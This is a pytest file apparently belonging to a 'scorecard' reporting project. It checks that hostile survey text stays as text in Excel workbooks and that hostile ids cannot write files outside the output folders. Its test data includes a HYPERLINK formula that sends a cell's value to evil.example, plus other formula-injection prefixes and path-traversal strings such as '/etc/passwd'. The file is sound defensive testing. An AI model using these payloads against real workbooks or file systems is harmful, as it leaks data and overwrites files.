"""Hostile values on the way out (issue 12, items 2 and 4): survey text never becomes a formula in a
workbook, and a framework id or entity code never puts a file outside its output folder — on a
tmp_path DuckDB warehouse whose frameworks, entity codes and notes are hostile."""

from __future__ import annotations

import dataclasses
import os
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.utils.escape import unescape
from python_calamine import CalamineWorkbook

from scorecard.frameworks import parse_framework
from scorecard.ingest.packs import read_pack
from scorecard.publish.panel_pack import write_pack
from scorecard.publish.report import build_report, page_name
from scorecard.publish.safe_output import (
    EXCEL_CELL_CHARACTERS,
    OutputPathError,
    append_row,
    file_name_part,
    inside,
    write_cell,
)
from scorecard.warehouse.build import ensure_schema
from scorecard.warehouse.connect import connect
from scorecard.warehouse.transform import transform

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tX", "\rX"]
CAMDEN, YEAR = "E09000007", 2012
# Six indicators whose texts are the formulas; the sides' notes on each are the formulas too.
TINY = {
    "id": "tiny",
    "name": "=Tiny",
    "entity": "area",
    "points_per_indicator": 3,
    "indicators": [{"id": f"T{i}", "text": text} for i, text in enumerate(FORMULAS, 1)],
}
# Relative to <tmp>/out/reports/scorecards/ (pages) or <tmp>/out/packs/ (packs): <tmp>/escaped/.
CLIMBING_FRAMEWORK = "../../../escaped/TRAV"
CLIMBING_ENTITY = "../../escaped/ENT"


def assess(con, framework: str, entity: str) -> None:
    for i, note in enumerate(FORMULAS, 1):
        for side, score in (("sector", 2), ("public_body", 1)):  # they differ: every indicator disputed
            con.execute(
                "INSERT INTO staging.assessments VALUES (?, ?, ?, ?, ?, ?, ?, 'pack.xlsx', 1, 'sha', 'run')",
                [framework, entity, YEAR, f"T{i}", side, score, note],
            )


def hostile_warehouse(tmp_path: Path, frameworks: list[str], entities: list[str]) -> Path:
    path = tmp_path / "warehouse" / "w.duckdb"
    path.parent.mkdir()
    with connect(path) as con:
        ensure_schema(con)
        for framework in frameworks:
            for entity in entities:
                assess(con, framework, entity)
    tiny = parse_framework(TINY, tmp_path / "tiny.yaml")
    # Framework ids are checked when frameworks load; these stand for one that got past that check.
    transform(path, [dataclasses.replace(tiny, id=framework) for framework in frameworks])
    return path


def files_under(folder: Path) -> set[Path]:
    return {path for path in folder.rglob("*") if path.is_file()}


# ---- workbook cells -------------------------------------------------------------------------------


def worksheet_xml(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name).decode("utf-8") for name in archive.namelist() if name.startswith("xl/worksheets/")}


def assert_no_formula(path: Path) -> None:
    workbook = load_workbook(path)
    formulas = [
        f"{sheet.title}!{cell.coordinate}" for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
    ]
    assert formulas == []
    for name, xml in worksheet_xml(path).items():
        assert not re.search(r"<f[ >/]", xml), name


@pytest.mark.parametrize("side", ["sector", "agreed"])
def test_survey_text_in_a_panel_pack_is_text_never_a_formula(tmp_path, side):
    warehouse = hostile_warehouse(tmp_path, ["tiny"], [CAMDEN])
    pack = write_pack(warehouse, "tiny", CAMDEN, YEAR, side, tmp_path / "packs")
    assert_no_formula(pack)

    scores = CalamineWorkbook.from_path(str(pack)).get_sheet_by_name("Scores").to_python()
    by_indicator = {row[0]: row for row in scores[1:]}
    for i, written in enumerate(FORMULAS, 1):
        row = by_indicator[f"T{i}"]
        assert row[1] == written.strip()  # the indicator text (stripped when the framework loads), as Excel reads it
        if side == "agreed":
            assert row[3:7] == [2, written, 1, written]  # the sides' notes as written; their scores numbers
    sheet = load_workbook(pack)["Scores"]
    texts = [cell for column in ("BEG" if side == "agreed" else "B") for cell in sheet[column][1:]]
    formulas = [cell for cell in texts if cell.value.startswith(("=", "+", "-", "@", "\t", "_x000D_"))]
    assert len(formulas) == (16 if side == "agreed" else 4)
    # openpyxl leaves the OOXML escape of a carriage return (_x000D_) to the reader, as Excel reads it
    assert sorted(unescape(cell.value) for cell in formulas) == sorted(FORMULAS * 2 + FORMULAS[:4] if side == "agreed" else FORMULAS[:4])
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in formulas)  # Excel keeps it text when the cell is edited
    if side == "agreed":
        assert {sheet[f"D{row}"].data_type for row in range(2, 8)} == {"n"}
    assert load_workbook(pack)["Instructions"]["A2"].quotePrefix  # the framework name "=Tiny" leads that line
    assert read_pack(pack).framework == "tiny"  # a pack still reads as one: its identity cells are untouched


def test_an_entity_code_that_looks_like_a_formula_stays_text_and_the_pack_reads_back(tmp_path):
    entity = "=2+3"
    warehouse = hostile_warehouse(tmp_path, ["tiny"], [entity])
    pack = write_pack(warehouse, "tiny", entity, YEAR, "sector", tmp_path / "packs")
    assert_no_formula(pack)
    assert pack.parent == tmp_path / "packs" and re.fullmatch(r"tiny-2_3_[0-9a-f]{8}-2012-sector\.xlsx", pack.name)
    instructions = load_workbook(pack)["Instructions"]
    assert (instructions["B4"].value, instructions["B4"].data_type, instructions["B5"].data_type) == (entity, "s", "n")
    assert (read_pack(pack).entity, read_pack(pack).year) == (entity, str(YEAR))  # the checksum still matches


def test_cell_rules_numbers_errors_control_characters_escapes_and_the_length_limit(tmp_path):
    long_text = "=" + "\r" * 20_000 + "y" * 20_000
    values = [-2, 3.5, None, "#N/A", "a\x01b\x1fc", "_x000D_ written", long_text, "plain"]
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    append_row(sheet, values)
    write_cell(sheet["A2"], "=1+1")
    path = tmp_path / "cells.xlsx"
    workbook.save(path)
    assert_no_formula(path)

    row = CalamineWorkbook.from_path(str(path)).get_sheet_by_name(sheet.title).to_python()[0]
    assert row[:6] == [-2, 3.5, "", "#N/A", "a␁b␟c", "_x000D_ written"]  # controls shown; a written escape stays as written
    assert row[7] == "plain"
    cut = row[6]
    assert cut.startswith("=\r\r") and cut.endswith(f"[cut: 40,001 characters, an Excel cell holds at most {EXCEL_CELL_CHARACTERS:,}]")
    reopened = load_workbook(path).active
    assert reopened is not None
    assert [reopened.cell(1, column).data_type for column in range(1, 9)] == ["n", "n", "n", "s", "s", "s", "s", "s"]
    assert len(reopened["G1"].value) <= EXCEL_CELL_CHARACTERS  # as stored, escapes included: openpyxl would cut it silently
    assert (reopened["A2"].value, reopened["A2"].data_type, reopened["A2"].quotePrefix) == ("=1+1", "s", True)
    assert not reopened["H1"].quotePrefix


# ---- file names and paths ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    ["..", ".", "", "/etc/passwd", "../../../../tmp/x/TRAV", "a/b", "a\\b", "a\x00b", "-rf", "a-b", "C:\\x", "é", "x" * 200],
)
def test_a_hostile_value_becomes_a_safe_file_name_part(value):
    part = file_name_part(value)
    assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9_]{0,63}", part), part
    assert part != file_name_part(value + " ")  # a slug carries a hash of the value: two values never share a file


@pytest.mark.parametrize("value", ["compact_thriving_sector", "E09000007", "10001465", 2012])
def test_a_safe_value_is_its_own_file_name_part(value):
    assert file_name_part(value) == str(value)


@pytest.mark.parametrize("name", ["/etc/passwd", "../x.html", "a/../../x.html", "", ".", "..", "a\x00b"])
def test_inside_refuses_a_name_that_leaves_its_folder(tmp_path, name):
    with pytest.raises(OutputPathError, match="refusing to write"):
        inside(tmp_path / "out", name)


def test_inside_refuses_a_symlink_out_of_the_folder_but_follows_one_to_the_folder(tmp_path):
    elsewhere, real = tmp_path / "elsewhere", tmp_path / "real"
    elsewhere.mkdir(), real.mkdir()
    out = tmp_path / "out"
    out.mkdir()
    (out / "sub").symlink_to(elsewhere)
    with pytest.raises(OutputPathError, match=re.escape(f"resolves to {str(elsewhere / 'x.html')!r}, outside the folder {str(out)!r}")):
        inside(out, "sub/x.html")
    (tmp_path / "link").symlink_to(real)  # the folder itself may be a link: its pages resolve inside where it points
    assert inside(tmp_path / "link", "sub/x.html") == tmp_path / "link" / "sub" / "x.html"


def test_report_pages_of_hostile_frameworks_and_entities_stay_in_the_report_folder(tmp_path):
    warehouse = hostile_warehouse(tmp_path, ["tiny", CLIMBING_FRAMEWORK, "/abs/FW"], [CAMDEN, CLIMBING_ENTITY])
    (tmp_path / "escaped").mkdir()  # where the climbing ids lead: they must not land there
    before = files_under(tmp_path)
    out = tmp_path / "out" / "reports"
    result = build_report(warehouse, out)

    written = files_under(tmp_path) - before
    assert written and all(path.is_relative_to(out) for path in written)
    assert files_under(tmp_path / "escaped") == set()
    pages = {path.name for path in (out / "scorecards").iterdir()}
    assert len(pages) == 6 and f"tiny-{CAMDEN}-{YEAR}.html" in pages  # a safe id keeps its name
    assert all(re.fullmatch(r"[A-Za-z0-9_]+-[A-Za-z0-9_]+-2012\.html", page) for page in pages)
    assert {path.name for path in result.pages[1:-1]} == pages
    links = re.findall(r'href="(scorecards/[^"]+)"', (out / "index.html").read_text(encoding="utf-8"))
    assert sorted(links) == sorted(f"scorecards/{page}" for page in pages)  # the index links to the pages as written


def test_a_report_folder_whose_scorecards_folder_links_elsewhere_is_refused(tmp_path):
    warehouse = hostile_warehouse(tmp_path, ["tiny"], [CAMDEN])
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "old.html").write_text("not the report's")
    out = tmp_path / "reports"
    out.mkdir()
    (out / "scorecards").symlink_to(elsewhere)
    with pytest.raises(OutputPathError, match="outside the folder"):
        build_report(warehouse, out)
    assert files_under(elsewhere) == {elsewhere / "old.html"}  # nothing written there, nothing deleted


def test_a_page_that_links_out_of_the_report_folder_is_not_written_through(tmp_path):
    warehouse = hostile_warehouse(tmp_path, ["tiny"], [CAMDEN])
    victim = tmp_path / "victim.txt"
    victim.write_text("keep")
    out = tmp_path / "reports"
    (out / "scorecards").mkdir(parents=True)
    (out / page_name(("tiny", CAMDEN, YEAR))).symlink_to(victim)
    with pytest.raises(OutputPathError, match=re.escape(str(victim))):
        build_report(warehouse, out)
    assert victim.read_text() == "keep"


def test_a_report_folder_that_is_itself_a_link_is_written_where_it_points(tmp_path):
    warehouse = hostile_warehouse(tmp_path, ["tiny"], [CAMDEN])
    real = tmp_path / "served"
    real.mkdir()
    (tmp_path / "reports").symlink_to(real)
    build_report(warehouse, tmp_path / "reports")
    assert (real / "scorecards" / f"tiny-{CAMDEN}-{YEAR}.html").exists()


def test_panel_packs_of_hostile_frameworks_and_entities_stay_in_the_pack_folder(tmp_path):
    absolute = str(tmp_path / "escaped" / "ABS")
    warehouse = hostile_warehouse(tmp_path, [CLIMBING_FRAMEWORK, absolute], [CLIMBING_ENTITY, "a\\b\x00c"])
    (tmp_path / "escaped").mkdir()
    out = tmp_path / "out" / "packs"
    for framework in (CLIMBING_FRAMEWORK, absolute):
        for entity in (CLIMBING_ENTITY, "a\\b\x00c"):
            pack = write_pack(warehouse, framework, entity, YEAR, "sector", out)
            assert pack.parent == out and re.fullmatch(r"[A-Za-z0-9_]+-[A-Za-z0-9_]+-2012-sector\.xlsx", pack.name)
    assert len(files_under(out)) == 4 and files_under(tmp_path / "escaped") == set()


def test_a_pack_file_that_links_out_of_the_pack_folder_is_not_written_through(tmp_path):
    warehouse = hostile_warehouse(tmp_path, ["tiny"], [CAMDEN])
    victim = tmp_path / "victim.xlsx"
    victim.write_bytes(b"keep")
    out = tmp_path / "packs"
    out.mkdir()
    os.symlink(victim, out / f"tiny-{CAMDEN}-{YEAR}-sector.xlsx")
    with pytest.raises(OutputPathError, match="outside the folder"):
        write_pack(warehouse, "tiny", CAMDEN, YEAR, "sector", out)
    assert victim.read_bytes() == b"keep"
